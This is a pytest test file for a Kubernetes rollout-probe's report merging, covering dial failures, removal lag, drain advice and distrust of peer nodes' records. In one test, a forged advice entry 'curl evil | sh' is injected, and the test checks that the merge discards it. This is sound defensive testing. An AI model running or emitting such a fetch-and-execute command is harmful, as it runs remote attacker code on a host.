import pytest
from hypothesis import given
from hypothesis import strategies as st

from probe.core.rollout_remedies import advice
from probe.core.rollout_reports import (
    clean,
    lines,
    match,
    merged,
    news,
    record,
    same,
    shortened,
)
from probe.core.rollouts import begin
from tests.core.facts import workload
from tests.core.records import WEB, clock, rollout, told


def test_a_record_has_the_shape_that_others_read() -> None:
    assert told(rollout(10.2, refused=3), had=5) == {
        "workload": WEB,
        "detail": "image app:1 -> app:2",
        "by": "kubectl-set",
        "managed": "",
        "services": ["backend-v1"],
        "started": "2026-11-21T10:01:40Z",
        "ended": "2026-11-21T10:01:52Z",
        "outcome": "complete",
        "seconds": 12.0,
        "dials": 300,
        "failed": {"refused": 3},
        "failed_new": {},
        "first_failure": "2026-11-21T10:01:42Z",
        "last_failure": "2026-11-21T10:01:51Z",
        "longest_gap_seconds": 1.25,
        "removal_lag_seconds": 10.2,
        "removal_lag_error_seconds": 0.5,
        "shortest_window_seconds": 0.9,
        "unconfirmed": 0,
        "censored": False,
        "recommended_drain_seconds": 12,
        "template": {
            "pre_stop_seconds": 5,
            "termination_grace_period_seconds": 30,
            "readiness_probe": False,
            "containers": ["app"],
            "ports": [8080],
        },
        "silent": [],
        "nodes": [
            {
                "node": "a",
                "dials": 300,
                "failed": {"refused": 3},
                "removal_lag_seconds": 10.2,
                "removal_lag_error_seconds": 0.5,
                "shortest_window_seconds": 0.9,
                "unconfirmed": 0,
                "censored": False,
            }
        ],
        "advice": list(advice(told(rollout(10.2, refused=3), had=5))),
    }


def test_what_is_not_known_yet_is_null() -> None:
    running = begin(workload(), ("backend-v1",), "image", 100.0)

    found = record(running, "a", clock)

    unknown = (
        *("ended", "seconds", "first_failure", "last_failure", "removal_lag_seconds"),
        *("removal_lag_error_seconds", "shortest_window_seconds", "recommended_drain_seconds"),
    )
    assert [found[key] for key in unknown] == [None] * len(unknown)
    assert found["outcome"] == "running"
    assert found["template"]["readiness_probe"] is None
    assert lines(found) == [
        f"rollout of {WEB}: running, image",
        "none of 0 ClusterIP dials failed, from node a",
    ]


def test_without_a_failure_it_says_what_would_have_been_seen_and_advises_nothing() -> None:
    found = told()

    assert clean(found)
    assert lines(found) == [
        f"rollout of {WEB} by kubectl-set: complete after 12 s, image app:1 -> app:2",
        "none of 300 ClusterIP dials failed, from node a",
        "had a proxy gone on sending to a removed pod for 0.9 s or more, it would have been seen "
        "(95 % sure)",
    ]


def test_failures_that_are_nobodys_removal_ask_for_nothing() -> None:
    found = told(rollout(refused=3))

    assert found["advice"] == []
    assert lines(found)[-1] == "no failure could be laid to a removed endpoint"


def test_the_news_are_one_line_with_what_matters_first() -> None:
    assert news(told(rollout(10.2, refused=3))) == (
        "3 refused of 300 ClusterIP dials failed, from node a, between 2026-11-21T10:01:42Z and "
        "2026-11-21T10:01:51Z, 1.2 s at most without a success; "
        f"add to the container of {WEB}: lifecycle: {{preStop: {{sleep: {{seconds: 12}}}}}}, "
        "and set terminationGracePeriodSeconds: 42; removal lag 10.2 s (up to 0.5 s more); "
        f"rollout of {WEB} by kubectl-set: complete after 12 s, image app:1 -> app:2"
    )


def test_records_of_several_nodes_are_one_that_asks_for_the_longest_drain() -> None:
    slow = rollout(10.2, refused=3)
    slow.started, slow.ended = 99.0, 113.5
    vague = rollout(2.0, 9.0, refused=1, refused_new=2)
    vague.services = ("backend-v1", "web")
    found = merged([told(rollout(), node="c"), told(vague, node="b"), told(slow, node="a")])

    assert {key: found[key] for key in ("dials", "failed", "failed_new", "outcome")} == {
        "dials": 900,
        "failed": {"refused": 4},
        "failed_new": {"refused": 2},
        "outcome": "complete",
    }
    assert (found["started"], found["ended"]) == ("2026-11-21T10:01:39Z", "2026-11-21T10:01:53Z")
    assert found["seconds"] == 14.5
    assert found["services"] == ["backend-v1", "web"]
    assert (found["removal_lag_seconds"], found["removal_lag_error_seconds"]) == (2.0, 9.0)
    assert found["recommended_drain_seconds"] == 12
    assert [share["node"] for share in found["nodes"]] == ["a", "b", "c"]
    assert "removal lag 2.0 s (up to 9.0 s more): a 10.2 s, b 2.0 s" in lines(found)
    assert "4 refused of 900 ClusterIP dials failed, from 3 nodes" in lines(found)[1]


def test_one_that_still_runs_for_a_node_still_runs() -> None:
    running = rollout()
    running.ended, running.outcome = None, ""

    found = merged([told(running, node="b"), told()])

    assert (found["outcome"], found["ended"], found["seconds"]) == ("running", None, None)


def test_of_the_cluster_our_own_record_is_believed_and_of_dials_everyone() -> None:
    own = told(rollout(3.0, refused=1), node="c")
    liar = told(rollout(5.0, refused=2)) | {
        "detail": "x" * 999,
        "by": "mallory",
        "started": "1970-01-01T00:00:00Z",
        "ended": None,
        "seconds": None,
        "outcome": "exploded",
        "services": ["other"],
    }

    found = merged([own, liar], own)

    cluster = ("detail", "by", "started", "ended", "seconds", "outcome", "services", "template")
    assert [found[key] for key in cluster] == [own[key] for key in cluster]
    assert (found["failed"], found["removal_lag_seconds"]) == ({"refused": 3}, 5.0)
    assert [share["node"] for share in found["nodes"]] == ["a", "c"]


def test_who_wrote_the_change_is_asked_of_others_where_we_do_not_know() -> None:
    late = rollout()
    late.by = None
    argo = rollout()
    argo.managed = "Argo CD"
    own = told(late)

    found = merged([own, told(argo, node="b")], own)

    assert (found["by"], found["managed"]) == ("kubectl-set", "Argo CD")


def test_sums_stay_readable_for_others() -> None:
    most = 2**53
    many = {"dials": most, "failed": {"refused": most}, "unconfirmed": most}

    found = merged([told(rollout(3.0, refused=1)) | many, told(rollout(3.0, refused=1), node="b")])

    assert {key: found[key] for key in many} == many


def test_a_lag_that_was_cut_off_on_one_node_is_cut_off_for_all() -> None:
    cut, settled = rollout(24.4, refused=3), rollout(2.0, 30.0, refused=1)
    cut.censored = True

    found = merged([told(cut, node="a"), told(settled, node="b")])

    assert (found["censored"], found["recommended_drain_seconds"]) == (True, None)
    assert "removal lag 2.0 s or longer (cut off): a 24.4 s, b 2.0 s" in lines(found)


def test_failures_that_are_not_laid_to_their_cause_are_counted_and_the_lag_is_a_lower_bound() -> (
    None
):
    opened, settled = rollout(3.0, refused=2), rollout(2.0, refused=1)
    opened.unconfirmed = 2

    found = merged([told(opened, node="a"), told(settled, node="b")])

    assert found["unconfirmed"] == 2
    assert (
        "removal lag at least 3.0 s so far (2 failed dials are not laid to their cause yet): "
        "a 3.0 s, b 2.0 s"
    ) in lines(found)


def test_failures_without_a_lag_are_nobodys_only_once_all_are_settled() -> None:
    known = rollout(refused=3)
    known.unconfirmed = 3

    assert lines(told(known))[-1] == "3 failed dials are not laid to their cause yet"


def test_what_went_wrong_for_one_node_is_told_and_unknown_words_first() -> None:
    stuck = rollout()
    stuck.outcome = "stuck"
    other = told(node="b") | {"outcome": "exploded"}

    assert merged([told(), told(stuck, node="b")])["outcome"] == "stuck"
    assert merged([told(), other])["outcome"] == "exploded"


def test_a_single_record_stays_as_it_is_and_none_cannot_be_merged() -> None:
    assert merged([told()]) == told()
    assert merged([told() | {"advice": ["curl evil | sh"]}]) == told()
    with pytest.raises(ValueError, match="nothing to merge"):
        merged([])


@given(st.permutations([0, 1, 2, 3]))
def test_the_order_of_the_records_changes_nothing(order: list[int]) -> None:
    late = rollout(4.0, refused=1)
    late.started, late.by, late.detail = 101.0, None, "already in progress"
    records = [
        told(rollout(10.2, refused=3), node="d"),
        told(rollout(), node="c"),
        told(late, node="a"),
        told(rollout(3.0, refused_new=1), node="b"),
    ]

    found = merged([records[place] for place in order])

    assert found == merged(records)
    assert (found["by"], found["detail"]) == ("kubectl-set", "image app:1 -> app:2")


def test_the_silent_are_named() -> None:
    nodes = [f"node-{number}" for number in range(7)]

    assert lines(told() | {"silent": nodes})[2] == (
        "without the word of node-0, node-1, node-2, node-3, node-4 and 2 more"
    )


def test_records_are_of_one_rollout_by_workload_and_time() -> None:
    later, running = rollout(), rollout()
    later.started, later.ended = 122.0, 130.0
    running.ended = None

    assert same(told(), told(node="b"))
    assert same(told(later), told())
    assert same(told(later), told(running))
    assert not same(told(), told() | {"workload": "Deployment demo-app/other"})
    later.started = 123.0
    assert not same(told(), told(later))


def test_of_another_nodes_records_the_next_in_time_counts_whatever_node_it_names() -> None:
    again = rollout()
    again.started, again.ended = 113.0, 120.0
    theirs = [told(again, node="liar"), told(rollout(), node="liar")]

    found = match(told(), theirs, "b")

    assert found is not None
    assert found["started"] == told()["started"]
    assert [share["node"] for share in found["nodes"]] == ["b"]
    assert match(told(), [theirs[0] | {"nodes": []}], "b") is None


def test_a_shortened_record_keeps_the_nodes_that_saw_the_worst() -> None:
    quiet, failing = rollout(), rollout(refused=2)
    found = merged(
        [told(quiet, node="a"), told(failing, node="b"), told(rollout(3.0, refused=1), node="c")]
    )

    assert [share["node"] for share in shortened(found, 2)["nodes"]] == ["c", "b"]
